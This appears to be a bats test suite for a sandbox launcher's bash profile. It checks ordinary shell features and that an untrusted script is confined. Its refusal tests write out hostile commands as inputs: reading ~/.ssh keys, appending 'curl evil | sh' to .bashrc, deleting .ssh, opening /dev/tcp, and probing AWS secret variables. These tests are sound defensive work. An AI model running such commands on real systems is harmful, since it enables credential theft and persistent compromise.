# shell: pipelines, job control, here-documents, traps, a terminal; an unknown script finds and leaves nothing.

# shellcheck disable=SC2016,SC2030,SC2031 # the script's; what bats' run sets
bats_require_minimum_version 1.5.0
load ../lib/common
load ../lib/profiles

setup_file() {
	packages procps python3
}

setup() {
	residue_before
}

teardown() {
	residue_after
}

# script [NAME]: standard input as an executable script in the current directory.
script() {
	{
		echo '#!/bin/bash'
		cat
	} >"${1:-script}"
	chmod 755 "${1:-script}"
	chown --reference=. "${1:-script}"
}

works() {
	script part.sh <<'END'
trap 'echo "cleaned up" >>log; exit 5' TERM
echo ready >fifo
while :; do read -rt 0.1 <> <(:); done
END
	script <<'END'
set -euo pipefail
mapfile -t words < <(printf 'b\na\nc\n' | sort -r)
echo "${words[*]}"
cat <<-TEXT >doc.txt
	home: $HOME
	sum: $((6 * 7))
TEXT
tr a-z A-Z <<<"here"
awk -F: '$3 == 1000 { print $1 }' /etc/passwd
find /usr/bin -name 'ba*sh' | xargs -n1 basename
{ echo out; echo err >&2; } 2>&1 | tee copy | wc -l
mkfifo fifo
./part.sh &
read -r line <fifo
echo "$line"
kill %1
wait %1 || echo "ended with $?"
cat log
tar cf - doc.txt | (mkdir -p "$HOME/x" && tar xf - -C "$HOME/x")
cmp doc.txt "$HOME/x/doc.txt" && echo same
(exit 3) || echo "status $?"
ps -o comm= -p 1 >/dev/null && free >/dev/null && uptime >/dev/null && echo system
END
	run launch -- ./script
	assert_status 0
	[ "$output" = 'c b a
HERE
sandbox
bash
2
ready
ended with 5
cleaned up
same
status 3
system' ] || _wrong 'each line of the script'
	[ "$(cat doc.txt)" = $'home: /home/sandbox\nsum: 42' ]
	[ "$(stat -c %u doc.txt)" = "$(stat -c %u .)" ]
}

@test "a script has pipelines, here-documents, jobs, traps, FIFOs and ps" {
	each_launcher works
}

controls_jobs() {
	script <<'END'
set -m
sleep 100 &
[ "$(ps -o pgid= -p $! | tr -d ' ')" = $! ] && echo "group of its own"
kill -STOP %1
wait %1 2>/dev/null; jobs | grep -o Stopped
kill -CONT %1
jobs | grep -o Running
kill %1; wait %1; echo "$?"
END
	run launch -- ./script
	assert_status 0
	assert_line "group of its own"
	assert_line Stopped
	assert_line Running
	assert_line 143
}

@test "set -m controls jobs in a script" {
	each_launcher controls_jobs
}

on_terminal() {
	run as_launcher "$CHECKOUT/tests/lib/terminal" "$(_user_sandbox)" -p "$CHECKOUT/profiles/shell.conf" <<'END'
expect sandbox:/work$
send tty; echo $((40 + 2))\n
expect /dev/pts/
expect 42
expect sandbox:/work$
send sed -u s/^/got:/\n
expect sed
send one\n
expect got:one
send \x1a
expect Stopped
expect sandbox:/work$
send fg\n
send two\n
expect got:two
send \x03
expect sandbox:/work$
send exit 7\n
END
	assert_status 7
}

@test "bash on a terminal: a prompt, job control, ^Z and ^C" {
	each_launcher on_terminal
}

refuses_script() {
	local theirs=$TMP/theirs-$LAUNCHER

	mkdir -p "$theirs/.ssh"
	echo key >"$theirs/.ssh/id_ed25519"
	chown -R --reference=. "$theirs"
	script <<<"cat $theirs/.ssh/*"
	refuses ./script
	script <<<"echo 'curl evil | sh' >>$theirs/.bashrc"
	refuses ./script
	script <<<"rm -r $theirs/.ssh && mkdir $theirs/.ssh"
	refuses ./script
	run launch --rw "$theirs" -- ./script
	assert_status 0
	_listen
	script <<<"exec 4<>/dev/tcp/127.0.0.1/$PORT"
	refuses ./script
	assert_output 'Operation not permitted'
	kill "$LISTENER"
	rm "$TMP/port"
	script <<<'[ -n "$AWS_SECRET_ACCESS_KEY" ]'
	export AWS_SECRET_ACCESS_KEY=hunter2
	refuses ./script
	unset AWS_SECRET_ACCESS_KEY
}

# What it leaves running ends with it.
refuses_staying() {
	local staying="sleep 98765.$$"

	script <<-END
		setsid $staying >/dev/null 2>&1 3>&- &
		disown
		until pgrep -xf '$staying'; do sleep 0.01; done
	END
	run launch -- ./script
	assert_status 0
	[ -n "$output" ] # its number, there
	run pgrep -xf "$staying"
	assert_status 1
	as_launcher ./script
	run pgrep -xf "$staying"
	assert_status 0
	kill "$output"
}

# A directory that it may only look at.
refuses_changing() {
	script <<<'touch new && rm new'
	# shellcheck disable=SC2034 # for refuses
	local LAUNCH_OPTIONS=(-D access=read-only)
	refuses ./script
	assert_output 'Read-only file system'
}

refusals() {
	refuses_keys
	refuses_script
	refuses_staying
	refuses_changing
	refuses_processes
	refuses_namespaces
	refuses_setuid
	refuses_memory 512M -s cgroup.memory.max=256M
}

@test "an unknown script reads no key, changes no start file, calls nobody, leaves nothing running" {
	each_launcher refusals
}
